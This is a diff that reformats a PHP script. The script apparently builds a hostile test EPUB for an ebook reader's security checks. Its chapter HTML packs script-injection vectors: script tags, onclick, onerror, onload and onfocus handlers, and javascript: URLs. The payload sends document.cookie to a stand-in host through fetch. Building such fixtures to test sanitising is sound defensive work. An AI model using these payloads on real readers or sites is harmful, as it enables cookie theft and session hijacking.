@@ -8,24 +8,34 @@ use FigPorch\Demo\Book;
 use FigPorch\Demo\DemoEbooks;
 use FigPorch\Demo\EpubBuilder;
 
-require __DIR__.'/../../vendor/autoload.php';
+require __DIR__ . '/../../vendor/autoload.php';
 
-$harm = 'try { top.harmed = 1; top.document.title = "harmed" } catch (e) {} document.title = "harmed"; fetch("https://elsewhere.example/" + document.cookie)';
+$harm =
+    'try { top.harmed = 1; top.document.title = "harmed" } catch (e) {} document.title = "harmed"; fetch("https://elsewhere.example/" + document.cookie)';
 $attribute = htmlspecialchars($harm, ENT_XML1 | ENT_QUOTES);
 $html = <<<HTML
-    <h1>Harmful</h1><script>{$harm}</script>
-    <p onclick="{$attribute}" id="bait">These are harmless words.</p>
-    <img src="https://elsewhere.example/picture.png" alt="" onerror="{$attribute}"/>
-    <svg xmlns="http://www.w3.org/2000/svg" onload="{$attribute}"><script>{$harm}</script></svg>
-    <iframe src="javascript:{$attribute}"></iframe>
-    <object data="https://elsewhere.example/object"></object>
-    <p><a href="javascript:{$attribute}">A link.</a></p>
-    <form action="https://elsewhere.example/"><input name="a" autofocus="autofocus" onfocus="{$attribute}"/></form>
-    HTML;
-(new EpubBuilder)->write(new Book(
-    title: 'The Harmful Book',
-    creators: [['name' => 'Nobody Known', 'sort' => 'Known, Nobody', 'role' => 'aut']],
-    isbn: DemoEbooks::isbn(666),
-    chapters: [['title' => 'Harm', 'html' => $html], ['title' => 'More', 'html' => '<h1>More</h1><p>More harmless words.</p>']],
-    description: 'Means harm.', publisher: 'None', published: '2026', subjects: ['Harm'],
-), $argv[1]);
+<h1>Harmful</h1><script>{$harm}</script>
+<p onclick="{$attribute}" id="bait">These are harmless words.</p>
+<img src="https://elsewhere.example/picture.png" alt="" onerror="{$attribute}"/>
+<svg xmlns="http://www.w3.org/2000/svg" onload="{$attribute}"><script>{$harm}</script></svg>
+<iframe src="javascript:{$attribute}"></iframe>
+<object data="https://elsewhere.example/object"></object>
+<p><a href="javascript:{$attribute}">A link.</a></p>
+<form action="https://elsewhere.example/"><input name="a" autofocus="autofocus" onfocus="{$attribute}"/></form>
+HTML;
+(new EpubBuilder())->write(
+    new Book(
+        title: 'The Harmful Book',
+        creators: [['name' => 'Nobody Known', 'sort' => 'Known, Nobody', 'role' => 'aut']],
+        isbn: DemoEbooks::isbn(666),
+        chapters: [
+            ['title' => 'Harm', 'html' => $html],
+            ['title' => 'More', 'html' => '<h1>More</h1><p>More harmless words.</p>'],
+        ],
+        description: 'Means harm.',
+        publisher: 'None',
+        published: '2026',
+        subjects: ['Harm'],
+    ),
+    $argv[1],
+);
